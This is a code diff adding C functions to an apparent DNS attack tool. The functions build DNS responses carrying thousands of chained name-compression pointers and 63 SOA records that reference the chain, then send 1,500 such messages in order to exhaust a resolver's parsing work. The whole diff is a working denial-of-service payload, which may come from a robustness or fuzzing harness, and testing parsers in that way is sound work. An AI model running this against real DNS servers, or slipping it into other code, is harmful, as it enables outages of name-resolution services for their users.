@@ -148,3 +148,42 @@ void attack_pointers(struct attack *a)
         chain(a, n, 0, NAME_AT); /* each to itself */
     }
 }
+
+/* As much work as a message can ask for: names at the end of so many pointers,
+ * two in each of 63 records. */
+void message_dear(struct message *m, unsigned pointers)
+{
+    enum { SOA = 6, SOA_DATA = 24, RECORDS = 63 };
+    static const uint8_t numbers[20];
+    message_begin(m, 0);
+    message_question(m, "www.h.test", A);
+    message_record(m, ANCOUNT, "", 65280, (struct bytes){ NULL, 0 });
+    put_u16(m->w.at - 2, (uint16_t)(1 + 2 * pointers));
+    unsigned last = (unsigned)(m->w.at - m->at);
+    write_u8(&m->w, 0);
+    for (unsigned i = 0; i < pointers; i++) {
+        unsigned to = last;
+        last = (unsigned)(m->w.at - m->at);
+        write_u16(&m->w, (uint16_t)(POINTER | to));
+    }
+    for (unsigned i = 0; i < RECORDS; i++) {
+        write_u16(&m->w, (uint16_t)(POINTER | last));
+        write_u32(&m->w, SOA << 16 | IN);
+        write_u32(&m->w, 0);
+        write_u16(&m->w, SOA_DATA);
+        write_u16(&m->w, (uint16_t)(POINTER | last));
+        write_u16(&m->w, (uint16_t)(POINTER | last));
+        write_bytes(&m->w, numbers, sizeof numbers);
+        message_count(m, ANCOUNT);
+    }
+}
+
+void attack_dear(struct attack *a)
+{
+    enum { MESSAGES = 1500, LONG = 8000, MOST = 126 };
+    static const unsigned pointers[] = { LONG, MOST, MOST + 1 };
+    for (unsigned i = 0; i < MESSAGES; i++) {
+        message_dear(&a->message, pointers[i % 3]);
+        attack_send_built(a);
+    }
+}
